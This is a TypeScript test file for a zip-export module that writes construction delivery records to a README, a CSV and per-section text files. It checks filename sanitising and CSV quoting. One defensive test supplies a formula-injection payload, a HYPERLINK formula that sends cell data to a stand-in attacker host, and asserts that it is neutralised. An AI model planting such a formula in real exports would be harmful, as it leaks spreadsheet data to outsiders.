import { describe, expect, it } from 'vitest'
import type { SampleRecord } from '../sample-data/sample-records'
import { buildZipEntries, sectionEntryName, type ZipTexts } from './zip-rules'

describe('sectionEntryName', () => {
  it.each([
    [['A1 标段'], ['sections/A1 标段.txt']],
    [['a/b: c?'], ['sections/ab c.txt']],
    [
      ['', '///', '..'],
      ['sections/section.txt', 'sections/section (2).txt', 'sections/section (3).txt'],
    ],
    [
      ['Lot A', 'lot a', 'LOT A'],
      ['sections/Lot A.txt', 'sections/lot a (2).txt', 'sections/LOT A (3).txt'],
    ],
    [
      ['A', 'A (2)', 'a'],
      ['sections/A.txt', 'sections/A (2).txt', 'sections/a (3).txt'],
    ],
    [['notes.txt'], ['sections/notes.txt']],
  ])('%j → %j', (sections, expected) => {
    const taken = new Set<string>()
    expect(sections.map((section) => sectionEntryName(section, taken))).toEqual(expected)
  })
})

const record = (id: string, section: string, material = '中砂'): SampleRecord => ({
  id,
  code: `SD-${id}`,
  material,
  section,
  quantity: 12.5,
  unit: 'm³',
  unitPrice: 128,
  date: '2026-01-05',
})

const texts: ZipTexts = {
  titles: {
    code: 'Code',
    material: 'Material',
    section: 'Section',
    quantity: 'Quantity',
    unit: 'Unit',
    unitPrice: 'Unit price',
    date: 'Date',
  },
  readme: 'Read me.\n',
  sectionHeading: (section, count) => `${section}: ${count}`,
}

describe('buildZipEntries', () => {
  const entries = buildZipEntries(
    [record('1', 'B 标段'), record('2', 'A 标段', '碎石, 5-31.5mm'), record('3', 'B 标段')],
    texts,
  )

  it('names the README, the CSV and one file per section in section order', () => {
    expect(Object.keys(entries)).toEqual([
      'README.txt',
      'deliveries.csv',
      'sections/A 标段.txt',
      'sections/B 标段.txt',
    ])
    expect(entries['README.txt']).toBe('Read me.\r\n')
  })

  it('writes every row under the column titles, in the table order', () => {
    expect(entries['deliveries.csv']).toBe(
      '\uFEFFCode,Material,Section,Quantity,Unit,Unit price,Date\r\n' +
        'SD-1,中砂,B 标段,12.5,m³,128,2026-01-05\r\n' +
        'SD-2,"碎石, 5-31.5mm",A 标段,12.5,m³,128,2026-01-05\r\n' +
        'SD-3,中砂,B 标段,12.5,m³,128,2026-01-05\r\n',
    )
  })

  it('lists a section’s deliveries under its heading, without the section column', () => {
    expect(entries['sections/B 标段.txt']).toBe(
      'B 标段: 2\r\n\r\n' +
        'Code\tMaterial\tQuantity\tUnit\tUnit price\tDate\r\n' +
        'SD-1\t中砂\t12.5\tm³\t128\t2026-01-05\r\n' +
        'SD-3\t中砂\t12.5\tm³\t128\t2026-01-05\r\n',
    )
  })

  it('writes texts that could start a formula as text, numbers as numbers', () => {
    const risky = {
      ...record('4', '@SUM(1+1)', '=HYPERLINK("http://evil.example/?"&A1,"open")'),
      code: '+86 138',
      unit: '-t',
      quantity: -2.5,
    }
    const written = buildZipEntries([risky], texts)
    expect(written['deliveries.csv'].split('\r\n')[1]).toBe(
      `'+86 138,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",'@SUM(1+1),-2.5,'-t,128,2026-01-05`,
    )
    expect(written['sections/@SUM(1+1).txt']).toBe(
      "'@SUM(1+1): 1\r\n\r\n" +
        'Code\tMaterial\tQuantity\tUnit\tUnit price\tDate\r\n' +
        `'+86 138\t'=HYPERLINK("http://evil.example/?"&A1,"open")\t-2.5\t'-t\t128\t2026-01-05\r\n`,
    )
  })

  it('holds only the README and the header row for no rows', () => {
    const empty = buildZipEntries([], texts)
    expect(Object.keys(empty)).toEqual(['README.txt', 'deliveries.csv'])
    expect(empty['deliveries.csv']).toBe(
      '\uFEFFCode,Material,Section,Quantity,Unit,Unit price,Date\r\n',
    )
  })
})
